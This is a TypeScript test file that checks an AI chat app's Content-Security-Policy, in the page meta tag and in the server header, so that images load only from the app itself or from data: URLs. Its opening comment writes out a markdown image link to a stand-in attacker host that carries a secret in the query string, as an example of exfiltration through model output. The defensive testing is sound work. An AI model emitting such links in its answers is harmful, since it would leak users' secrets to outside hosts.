// An answer is model output, and an image address in it is a classic way to carry data out
// (![x](https://evil.test/p.png?d=<secret>)). The renderer never makes an <img> of one, and
// the CSP is the second wall: img-src allows the app's own files and data: URLs, never a host.
// Both policies are checked: the page's <meta> (Electron, file:) and the headless server's header.
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { pageSecurityHeaders } from '../../src-main/server/staticFiles.js';
import { REPO_ROOT } from '../support/runCli.js';

function directives(policy: string): Map<string, string[]> {
  const parsed = new Map<string, string[]>();
  for (const part of policy.split(';')) {
    const [name, ...sources] = part.trim().split(/\s+/);
    if (name) parsed.set(name, sources);
  }
  return parsed;
}

function metaPolicy(): string {
  const html = fs.readFileSync(path.join(REPO_ROOT, 'src-renderer', 'index.html'), 'utf8');
  const match = /http-equiv="Content-Security-Policy"\s+content="([^"]+)"/.exec(html);
  if (!match?.[1]) throw new Error('src-renderer/index.html: no Content-Security-Policy meta');
  return match[1];
}

const POLICIES = {
  'index.html <meta>': metaPolicy(),
  'headless server header': pageSecurityHeaders('127.0.0.1:4567')['Content-Security-Policy']!,
};

describe.each(Object.entries(POLICIES))('the CSP of %s', (_name, policy) => {
  it("img-src allows only 'self' and data:, no remote host", () => {
    const parsed = directives(policy);
    const images = parsed.get('img-src') ?? parsed.get('default-src');
    expect(images).toBeDefined();
    expect([...images!].sort()).toEqual(["'self'", 'data:']);
  });

  it("default-src is 'self' and scripts come from the app only", () => {
    const parsed = directives(policy);
    expect(parsed.get('default-src')).toEqual(["'self'"]);
    const scripts = parsed.get('script-src') ?? parsed.get('default-src');
    expect(scripts).toEqual(["'self'"]);
  });
});
